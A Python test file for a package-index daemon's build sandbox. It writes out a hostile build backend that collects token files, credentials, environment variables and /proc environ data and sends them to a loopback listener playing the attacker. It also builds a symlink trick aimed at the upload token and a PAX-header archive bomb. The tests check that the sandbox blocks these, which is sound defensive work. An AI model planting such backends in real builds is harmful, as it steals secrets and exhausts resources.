"""A watched repository's build is someone else's code: what a hostile one tries, and that it fails.

The build hook below does what a compromised repository would: it reaches for the control socket,
the daemon's token files, its GitHub token and credentials, its environment (directly and through
/proc), writes outside its scratch directory, prints its index credential into its log, and sends
all it found to a listener of the test's (the build keeps the network: its build dependencies come
through the index). Then the test uses whatever arrived, as the attacker would.

The same build with `[watcher] sandbox = "none"` shows the probes are real: there, the operator
has accepted the risk, and the hook gets the daemon's secrets.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import pytest

from tests.projects import in_tree_backend_pyproject
from tests.support import Daemon, git_project, make_wheel, tag_release, wheel_filename
from tests.test_watcher import ctl, watching, wheelhouse

__all__ = ["wheelhouse"]

AWS_SECRET = "aws-secret-of-the-daemon-0123456789"
GITHUB_TOKEN = "ghp_github-token-of-the-daemon-0123456789"
WEBHOOK_SECRET = "webhook-secret-of-the-daemon-0123456789"


def hostile_backend(
    targets: dict[str, str], control: Path, outside: Path, exfil: int, abstract: str, daemon: int
) -> str:
    """A build backend that takes what it can and sends it to 127.0.0.1:`exfil`."""
    return f"""\
import glob, json, os, socket
from hatchling.build import *  # noqa: F403

found = {{}}
try:  # a service of the machine's that listens on an abstract socket (no file to hide)
    probe = socket.socket(socket.AF_UNIX)
    probe.connect({abstract!r})
    probe.sendall(b"a build was here")
    found["abstract"] = "connected"
except OSError as error:
    found["abstract"] = f"refused: {{error}}"
try:  # the daemon itself, by its process id: signal 0 asks whether SIGKILL would be let through
    os.kill({daemon}, 0)
    found["signal"] = "allowed"
except OSError as error:
    found["signal"] = f"refused: {{error.strerror}}"
try:
    probe = socket.socket(socket.AF_UNIX)
    probe.connect({str(control)!r})
    found["control"] = "connected"
except OSError as error:
    found["control"] = f"refused: {{error}}"
for name, path in {targets!r}.items():
    try:
        found[name] = open(path).read()
    except OSError as error:
        found[name] = f"hidden: {{error.strerror}}"
found["environ"] = dict(os.environ)
found["proc_environ"] = []
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        if {AWS_SECRET.encode()!r} in open(path, "rb").read():
            found["proc_environ"].append(path)
    except OSError:
        pass
try:
    open({str(outside)!r}, "w").write("written by a build")
    found["outside"] = "written"
except OSError as error:
    found["outside"] = f"refused: {{error.strerror}}"
print("HOSTILE", json.dumps(found), flush=True)
with socket.create_connection(("127.0.0.1", {exfil})) as sink:
    sink.sendall(json.dumps(found).encode())
"""


# A TLS key of the machine's: a daemon that runs as root (these tests do) could read it.
PLANTED_KEY = Path("/etc/ssl/private/insiders-test-build-sandbox.key")


@pytest.fixture(autouse=True)
def machine_key() -> Iterator[None]:
    planted = os.geteuid() == 0 and PLANTED_KEY.parent.is_dir()
    if planted:
        PLANTED_KEY.write_text("the machine's private key\n")
        PLANTED_KEY.chmod(0o600)
    yield
    if planted:
        PLANTED_KEY.unlink()


@dataclass
class Outside:
    """What listens outside the build: the attacker's server on loopback (`exfil`), and a service
    of the machine's on an abstract Unix socket, as D-Bus, X11 or a container runtime may have
    (`abstract`: no path in the file system, so no mount can hide it). What each received."""

    exfil: int
    abstract: str
    sent: list[bytes] = field(default_factory=list)
    reached: list[bytes] = field(default_factory=list)


def keep_what_arrives(server: socket.socket, received: list[bytes]) -> threading.Thread:
    def serve() -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return  # shut down
            with connection:
                chunks = []
                while chunk := connection.recv(65536):
                    chunks.append(chunk)
                received.append(b"".join(chunks))

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    return thread


@pytest.fixture
def outside() -> Iterator[Outside]:
    sink = socket.create_server(("127.0.0.1", 0))
    service = socket.socket(socket.AF_UNIX)
    service.bind(f"\0insiders-test-{os.getpid()}-{threading.get_ident()}")
    service.listen()
    listening = Outside(sink.getsockname()[1], service.getsockname().decode())
    threads = [
        keep_what_arrives(sink, listening.sent),
        keep_what_arrives(service, listening.reached),
    ]
    yield listening
    for server in (sink, service):
        with contextlib.suppress(OSError):  # wakes the accept, where the kernel allows it
            server.shutdown(socket.SHUT_RDWR)
        server.close()
    for thread in threads:
        thread.join(5)


def hostile_run(
    tmp_path: Path, wheelhouse: Daemon, outside: Outside, sandbox: str
) -> tuple[Daemon, dict[str, object], str]:
    """Watch the hostile repository in a daemon holding secrets; build it; what the hook found,
    and its build log."""
    home = tmp_path / "d"
    secrets = home / "secrets"
    secrets.mkdir(parents=True)
    (secrets / "github-token").write_text(GITHUB_TOKEN)
    credentials = home / "credentials"
    credentials.mkdir()
    (credentials / "webhook-secret").write_text(WEBHOOK_SECRET)
    config = home / "config" / "insiders" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text(
        '[server]\nread-access = "token"\n'
        f'[watcher]\nenabled = false\nsandbox = "{sandbox}"\n'
        f'github-token-file = "{secrets / "github-token"}"\n'
    )
    agent = tmp_path / "agent.sock"
    daemon = Daemon(
        home,
        ["--upstream", wheelhouse.index],
        env={
            "AWS_SECRET_ACCESS_KEY": AWS_SECRET,
            "SSH_AUTH_SOCK": str(agent),
            "CREDENTIALS_DIRECTORY": str(credentials),
        },
    ).start()
    data = daemon.data_dir
    targets = {
        "tls-keys": str(PLANTED_KEY),
        "upload-token": str(data / "upload-token"),
        "tokens.json": str(data / "tokens.json"),
        "github-token": str(secrets / "github-token"),
        "webhook-secret": str(credentials / "webhook-secret"),
        "config": str(config),
    }
    control = home / "run" / "insiders" / "control.sock"
    assert control.exists()
    assert daemon.proc is not None
    pid = daemon.proc.pid
    repo = git_project(tmp_path / "src", "hostile", pyproject=in_tree_backend_pyproject("hostile"))
    (repo / "backend.py").write_text(
        hostile_backend(targets, control, data / "planted", outside.exfil, outside.abstract, pid)
    )
    tag_release(repo, "1.0")
    ctl(daemon, "repos", "add", f"{repo}:hostile")
    ctl(daemon, "update", "--wait")
    assert outside.sent, "the hook sent nothing"
    found = json.loads(outside.sent[0])
    log = (data / "logs" / "hostile" / "1.0.log").read_text()
    return daemon, found, log


def test_a_hostile_build_gets_nothing_of_the_daemon(
    tmp_path: Path, wheelhouse: Daemon, outside: Outside
) -> None:
    daemon, found, log = hostile_run(tmp_path, wheelhouse, outside, "auto")
    try:
        # Abstract sockets have no file a mount could hide, and the build keeps the network
        # namespace (its dependencies come from the index): Landlock's scope refuses them.
        assert str(found["abstract"]).startswith("refused"), found["abstract"]
        assert outside.reached == []
        assert str(found["signal"]).startswith("refused"), found["signal"]
        assert log.startswith("insiders: sandbox: bubblewrap: ")
        assert "insiders: repository: " in log
        # No control socket: no token made, nothing published through it.
        assert str(found["control"]).startswith("refused"), found["control"]
        for name in (
            *("tls-keys", "upload-token", "tokens.json", "github-token", "webhook-secret"),
            "config",
        ):
            assert str(found[name]).startswith("hidden"), (name, found[name])
        environ = found["environ"]
        assert isinstance(environ, dict)
        for variable in ("AWS_SECRET_ACCESS_KEY", "SSH_AUTH_SOCK", "CREDENTIALS_DIRECTORY"):
            assert variable not in environ
        assert not any(name.startswith(("NOTIFY_", "INSIDERS_", "GIT_")) for name in environ)
        scratch = str(daemon.home / "cache" / "insiders" / "builds")
        for name in ("HOME", "TMPDIR", "XDG_CACHE_HOME", "PIP_CACHE_DIR"):
            assert environ[name].startswith(scratch), (name, environ[name])
        assert found["proc_environ"] == []
        assert str(found["outside"]).startswith("refused")
        assert not (daemon.data_dir / "planted").exists()

        # Its one credential: a read token for its build dependencies...
        credential = re.search(r"__token__:([^@]+)@", environ["PIP_INDEX_URL"])
        assert credential, environ["PIP_INDEX_URL"]
        secret = credential.group(1)
        # ...never stored in its log (the hook printed it there)...
        assert secret not in log
        assert "__token__:****@" in log
        assert not re.search(r"insiders-[A-Za-z0-9_-]{20,}", log)
        # ...that could never upload, and is revoked now that the build is over.
        with httpx.Client(base_url=daemon.url, timeout=30) as client:
            assert client.get("/simple/", auth=("__token__", daemon.token)).status_code == 200
            assert client.get("/simple/", auth=("__token__", secret)).status_code == 401
        victim = tmp_path / wheel_filename("victim", "6.6.6")
        victim.write_bytes(make_wheel("victim", "6.6.6"))
        assert daemon.upload(victim, token=secret).status_code == 403
        assert daemon.upload(victim, token="__token__").status_code == 403
        tokens = json.loads(ctl(daemon, "tokens", "list", "--json").stdout)["tokens"]
        assert [t["name"] for t in tokens] == ["default"]
        # What a build is for still works: the hostile project itself is published.
        assert "hostile" in ctl(daemon, "projects", "list").stdout
    finally:
        daemon.stop()


def test_without_a_sandbox_the_same_build_takes_the_daemons_secrets(
    tmp_path: Path, wheelhouse: Daemon, outside: Outside
) -> None:
    """The probes are real: `sandbox = "none"` is the operator accepting exactly this. Even so,
    the environment is an allow-list, the log is redacted, and the box's Landlock domain keeps
    writes in scratch, the daemon out of the build's signals and abstract sockets out of reach."""
    daemon, found, log = hostile_run(tmp_path, wheelhouse, outside, "none")
    try:
        assert str(found["abstract"]).startswith("refused"), found["abstract"]
        assert outside.reached == []
        # Without a PID namespace the daemon's process id is the real one: same user, so only
        # Landlock's signal scope stops a SIGKILL.
        assert found["signal"] == "refused: Operation not permitted", found["signal"]
        assert 'insiders: sandbox: none ([watcher] sandbox = "none")' in log
        assert found["control"] == "connected"
        assert found["upload-token"] == (daemon.data_dir / "upload-token").read_text()
        assert found["github-token"] == GITHUB_TOKEN
        if PLANTED_KEY.exists():
            assert found["tls-keys"] == "the machine's private key\n"
        environ = found["environ"]
        assert isinstance(environ, dict)
        assert "AWS_SECRET_ACCESS_KEY" not in environ
        assert found["proc_environ"], "the daemon's /proc/PID/environ was not readable"
        assert daemon.token not in log
        assert str(found["outside"]).startswith("refused")  # Landlock still confines writes
    finally:
        daemon.stop()


def test_builds_are_refused_where_no_sandbox_can_be_made(
    tmp_path: Path, wheelhouse: Daemon
) -> None:
    """No bwrap on PATH: the repository's code does not run, and every place says why."""
    home = tmp_path / "d"
    config = home / "config" / "insiders" / "config.toml"
    config.parent.mkdir(parents=True)
    config.write_text("[watcher]\nenabled = false\n")
    # A PATH with git and nice but no bwrap.
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool in ("git", "nice", "sh"):
        os.symlink(f"/usr/bin/{tool}", bin_dir / tool)
    daemon = Daemon(home, ["--upstream", wheelhouse.index], env={"PATH": str(bin_dir)}).start()
    try:
        planted = tmp_path / "ran"
        pyproject = in_tree_backend_pyproject("refused")
        repo = git_project(tmp_path / "src", "refused", pyproject=pyproject)
        (repo / "backend.py").write_text(f"open({str(planted)!r}, 'w').write('ran')\n")
        tag_release(repo, "1.0")
        ctl(daemon, "repos", "add", f"{repo}:refused")
        result = ctl(daemon, "update", "--wait", check=False)
        assert result.returncode == 1
        assert "bubblewrap cannot make one here: bwrap is not installed" in result.stdout
        assert 'sandbox = "none"' in result.stdout
        assert not planted.exists()
        said = "builds refused: no sandbox (bwrap is not installed)"
        assert said in ctl(daemon, "status").stdout
        assert said in ctl(daemon, "repos", "list").stdout
        assert "bwrap is not installed" in daemon.log()
    finally:
        daemon.stop()


# The start of an in-tree backend that builds with nothing installed first.
NEEDS_NOTHING = """\
def get_requires_for_build_wheel(config_settings=None):
    return []

get_requires_for_build_sdist = get_requires_for_build_wheel
"""

SYMLINKED_BUILD = (
    """\
import os

"""
    + NEEDS_NOTHING
    + """
def build_sdist(directory, config_settings=None):
    name = "linked-1.0.tar.gz"
    os.symlink("/dev/zero", os.path.join(directory, name))
    return name

def build_wheel(directory, config_settings=None, metadata_directory=None):
    name = "linked-1.0-py3-none-any.whl"
    os.symlink({target!r}, os.path.join(directory, name))
    return name
"""
)


def test_what_a_build_makes_is_read_only_if_it_is_a_plain_file(
    tmp_path: Path, wheelhouse: Daemon
) -> None:
    """The daemon reads a build's files outside the sandbox: a symbolic link made by the build
    would point at the daemon's own files there (its token file), or at /dev/zero (a hash that
    never ends)."""
    with watching(tmp_path / "d", wheelhouse, "[watcher]\nenabled = false\n") as daemon:
        pyproject = in_tree_backend_pyproject("linked", requires=())
        repo = git_project(tmp_path / "src", "linked", pyproject=pyproject)
        target = str(daemon.data_dir / "upload-token")
        (repo / "backend.py").write_text(SYMLINKED_BUILD.format(target=target))
        tag_release(repo, "1.0")
        ctl(daemon, "repos", "add", f"{repo}:linked")
        result = ctl(daemon, "update", "--wait", check=False)
        assert result.returncode == 1, result.stdout
        assert "which is not a plain file" in result.stdout
        assert "linked" not in ctl(daemon, "projects", "list").stdout


BOMB_BUILD = (
    """\
import gzip, io, os, tarfile

"""
    + NEEDS_NOTHING
    + """
def build_sdist(directory, config_settings=None):
    # A PAX header of 400 MB, 0.4 MB once compressed: tarfile reads such a header whole.
    size = 400 << 20
    record = f" comment=".encode()
    length = size + len(record) + 1
    length += len(str(length + len(str(length))))
    header = tarfile.TarInfo("././@PaxHeader")
    header.type, header.size = tarfile.XHDTYPE, length
    name = "bomb-1.0.tar.gz"
    with gzip.GzipFile(os.path.join(directory, name), "wb", mtime=0) as out:
        out.write(header.tobuf(tarfile.USTAR_FORMAT))
        out.write(str(length).encode() + record)
        chunk = b"a" * (1 << 20)
        for _ in range(size >> 20):
            out.write(chunk)
        out.write(b"\\n" + b"\\0" * (-length % 512) + b"\\0" * 1024)
    return name

def build_wheel(directory, config_settings=None, metadata_directory=None):
    import zipfile
    name = "bomb-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(directory, name), "w") as wheel:
        metadata = "Metadata-Version: 2.1\\nName: bomb\\nVersion: 1.0\\n"
        wheel.writestr("bomb-1.0.dist-info/METADATA", metadata)
    return name
"""
)


def test_an_archive_a_build_made_is_read_within_bounds(tmp_path: Path, wheelhouse: Daemon) -> None:
    """The daemon reads a build's sdist to clamp its times: a PAX header bomb made by the build
    is refused as an upload's would be, in bounded memory, and the daemon goes on."""
    with watching(tmp_path / "d", wheelhouse, "[watcher]\nenabled = false\n") as daemon:
        pyproject = in_tree_backend_pyproject("bomb", requires=())
        repo = git_project(tmp_path / "src", "bomb", pyproject=pyproject)
        (repo / "backend.py").write_text(BOMB_BUILD)
        tag_release(repo, "1.0")
        ctl(daemon, "repos", "add", f"{repo}:bomb")
        assert daemon.proc is not None
        status = Path(f"/proc/{daemon.proc.pid}/status")
        before = int(re.search(r"^VmRSS:\s+(\d+)", status.read_text(), re.M)[1])  # type: ignore[index]
        result = ctl(daemon, "update", "--wait", check=False)
        assert result.returncode == 1, result.stdout
        assert "extended header" in result.stdout, result.stdout
        peak = int(re.search(r"^VmHWM:\s+(\d+)", status.read_text(), re.M)[1])  # type: ignore[index]
        assert peak - before < 100 << 10, f"the daemon grew by {(peak - before) >> 10} MB"
        assert "bomb" not in ctl(daemon, "projects", "list").stdout
        ctl(daemon, "status")
